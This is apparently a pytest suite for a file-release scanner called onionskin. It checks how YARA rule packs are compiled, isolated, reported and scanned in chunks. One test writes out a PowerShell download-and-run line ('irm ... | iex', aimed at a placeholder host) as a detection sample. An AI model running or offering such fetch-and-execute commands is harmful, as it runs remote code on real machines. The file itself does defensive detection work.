"""YARA rules: the operator's are text, compiled where the bytes are, and a broken one hides no other."""

from __future__ import annotations

from pathlib import Path

import pytest

from onionskin.errors import InputError
from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.model import Problem
from onionskin.parse.rule_match import RuleMatch
from onionskin.peel.rule_packs import RulePack, prepared
from onionskin.write.reports import PeelReport

pytest.importorskip("yara_x")

WORD = 'rule %s { strings: $a = "inert marker" condition: $a }\n'


@pytest.fixture
def pair(tmp_path: Path) -> tuple[Path, Path]:
    old, new = tmp_path / "old.txt", tmp_path / "new.txt"
    old.write_text("a text of every day\n" * 4)
    new.write_text("a text of every day, and an inert marker\n" * 4)
    return old, new


def peeled(pool: Pool, pair: tuple[Path, Path], *rules: Path) -> PeelReport:
    (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=rules)
    return report


def matched(report: PeelReport) -> set[tuple[str, str]]:
    return {(one.pack, one.rule) for layer in report.layers for one in layer.all(RuleMatch)}


def written(folder: Path, **files: str) -> Path:
    (folder / "pack").mkdir()
    for name, text in files.items():
        (folder / "pack" / f"{name}.yar").write_text(text)
    return folder / "pack"


def test_rules_of_one_name_in_two_files_are_two_rules(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    report = peeled(pool, pair, written(tmp_path, one=WORD % "same", two=WORD % "same"))
    assert matched(report) == {("one.yar", "same"), ("two.yar", "same")}
    # Of one place, so one finding; it names both.
    (finding,) = report.findings
    assert "same of one.yar" in finding.summary
    assert "same of two.yar" in finding.summary
    assert report.complete


def test_a_broken_rule_is_named_by_file_and_line_and_the_others_run(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    broken = '\nrule bad { strings: $a = "x" condition: $b }\n'
    report = peeled(pool, pair, written(tmp_path, one=WORD % "good" + broken, two=WORD % "other"))
    assert matched(report) == {("one.yar", "good"), ("two.yar", "other")}
    (problem,) = [each for each in report.problems if each.reason == "broken-rule"]
    assert problem.detail == "one.yar, line 3: unknown pattern `$b`; the other rules were run"
    assert not report.complete
    assert "broken-rule (1)" in [str(each) for each in report.reasons]


def test_an_include_reads_no_file(pair: tuple[Path, Path], tmp_path: Path, pool: Pool) -> None:
    (tmp_path / "other.yar").write_text(WORD % "included")
    source = f'include "{tmp_path / "other.yar"}"\n' + WORD % "own"
    report = peeled(pool, pair, written(tmp_path, one=source))
    assert matched(report) == {("one.yar", "own")}
    assert "include statements not allowed" in str(report.problems)


def test_modules_privates_globals_and_tags_work_and_a_missing_external_breaks_its_rule_alone(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    source = (
        'import "pe" import "elf" import "math" import "hash"\n'
        "private rule hidden { condition: filesize > 1 }\n"
        "global rule everywhere { condition: filesize > 0 }\n"
        "rule tagged : first second { condition: hidden and not pe.is_pe and math.entropy(0, filesize) > 1 }\n"
        "rule external { condition: some_variable == 1 }\n"
    )
    report = peeled(pool, pair, written(tmp_path, one=source))
    rules = {one.rule: one for layer in report.layers for one in layer.all(RuleMatch)}
    assert rules["tagged"].tags == ("first", "second")
    assert "hidden" not in rules
    assert "one.yar, line 5: unknown identifier `some_variable`" in str(report.problems)


def test_serialised_rules_are_never_loaded(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    import yara_x

    compiled = tmp_path / "pack.yar"
    with compiled.open("wb") as file:
        yara_x.compile(WORD % "inside").serialize_into(file)
    report = peeled(pool, pair, compiled)
    assert not matched(report)
    assert "pack.yar, line 1" in str(report.problems)


def test_a_rule_that_matched_the_file_before_is_no_news(tmp_path: Path, pool: Pool) -> None:
    pair = tmp_path / "old.txt", tmp_path / "new.txt"
    pair[0].write_text("an inert marker\n")
    pair[1].write_text("an inert marker, and more\n")
    report = peeled(pool, pair, written(tmp_path, one=WORD % "same"))
    assert matched(report) == {("one.yar", "same")}
    assert not report.findings


def test_the_place_and_the_words_of_a_rule_stand_in_its_match(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    source = (
        'rule told { meta: technique = "T1027" description = "a marker" '
        'strings: $a = "inert marker" condition: $a }'
    )
    report = peeled(pool, pair, written(tmp_path, one=source))
    (finding,) = report.findings
    assert finding.evidence[0].offset == pair[1].read_text().index("inert marker")
    assert "(T1027): a marker" in finding.summary


def test_rules_run_behind_walls_in_workers_of_their_own(
    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
) -> None:
    pack = written(tmp_path, one=WORD % "own")
    (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=[pack])
    assert matched(report) == {("one.yar", "own")}
    assert pool.generating().isolation == pool.isolation == report.isolation
    assert not any("no YARA rule" in each for each in report.notes)


def test_an_engine_that_is_refused_is_said_and_the_rest_goes_on(
    pair: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Pool, "generating", lambda self: self)  # workers that may not make code
    with Pool(workers=1) as pool:
        if pool.isolation == "process":
            pytest.skip("this system builds no walls")
        (report,) = peel([pair[1]], pool=pool, against=[pair[0]])
        assert any("no YARA rule was run" in each for each in report.notes)
        assert report.complete
        pack = written(tmp_path, one=WORD % "own")
        with pytest.raises(InputError, match="executable memory"):
            list(peel([pair[1]], pool=pool, against=[pair[0]], rules=[pack]))


def test_rules_want_a_release_before(pair: tuple[Path, Path], tmp_path: Path, pool: Pool) -> None:
    pack = written(tmp_path, one=WORD % "own")
    with pytest.raises(InputError, match="differs"):
        list(peel([pair[1]], pool=pool, rules=[pack]))


def test_a_folder_without_rules_and_a_file_that_is_not_there_are_errors(
    tmp_path: Path, pool: Pool
) -> None:
    (tmp_path / "empty").mkdir()
    for path in (tmp_path / "empty", tmp_path / "nowhere.yar"):
        with pytest.raises(InputError), prepared(pool, [path]):
            pass


def test_without_yara_the_rules_are_not_run_and_the_hint_says_what_to_install(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, pool: Pool
) -> None:
    from onionskin.peel import rule_packs
    from onionskin.peel.wire import Compiled

    refused = Compiled(0, (), "yara-x is not installed (yara_x)")
    monkeypatch.setattr(rule_packs, "_compiled", lambda *_: refused)
    with prepared(pool, []) as pack:
        assert isinstance(pack, Problem)
        assert pack.reason == "no-yara"
    with (
        pytest.raises(InputError) as caught,
        prepared(pool, [written(tmp_path, one=WORD % "a")]),
    ):
        pass
    assert caught.value.hint == "install onionskin[yara]"


def test_the_house_s_own_rules_are_sound_and_say_what_innocence_is(pool: Pool) -> None:
    with prepared(pool, []) as pack:
        assert isinstance(pack, RulePack)
        assert not pack.problems
        assert pack.count >= 19
        for path in (Path(__file__).parents[3] / "src/onionskin/peel/rules").glob("*.yar"):
            text = path.read_text("utf-8")
            rules = text.count("\nrule ")  # a private one tells nothing
            for key in ("technique", "says", "benign", "reference"):
                assert text.count(f"        {key} = ") == rules, (path.name, key)


def test_three_letters_in_a_binary_are_no_script_and_a_control_letter_hides_none(
    tmp_path: Path, pool: Pool
) -> None:
    pair = tmp_path / "old.bin", tmp_path / "new.bin"
    pair[0].write_bytes(b"ITSF\3\0\0\0" + bytes(64))
    pair[1].write_bytes(b"ITSF\3\0\0\0\x81irm\x90\2\0..\x99iex\7" + bytes(64))
    assert not matched(peeled(pool, pair))
    pair[1].write_bytes(b"# \1\2\0\nirm https://one.example/inert | iex\n")
    assert matched(peeled(pool, pair)) == {("onionskin/scripts.yar", "download_and_run_powershell")}


def test_a_large_file_is_scanned_by_parts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    from onionskin.peel import rules_inside
    from onionskin.peel.wire import Rules, RuleSource
    from onionskin.plugins.view import View

    monkeypatch.setattr(rules_inside, "WINDOW", 4096)
    monkeypatch.setattr(rules_inside, "OVERLAP", 64)
    body = b"." * 4090 + b"inert marker" + b"." * 9000
    (tmp_path / "body").write_bytes(body)
    text = (WORD % "seam").encode()
    (tmp_path / "rules").write_bytes(text)
    files = [os.open(tmp_path / name, os.O_RDONLY) for name in ("body", "rules")]
    try:
        rules = Rules("seam", (RuleSource("one.yar", 0, len(text)),))
        (fact,) = rules_inside.matches(rules, files[1], View(files[0]))
    finally:
        for each in files:
            os.close(each)
    assert fact.value["span"] == {"offset": 4090, "length": 12}
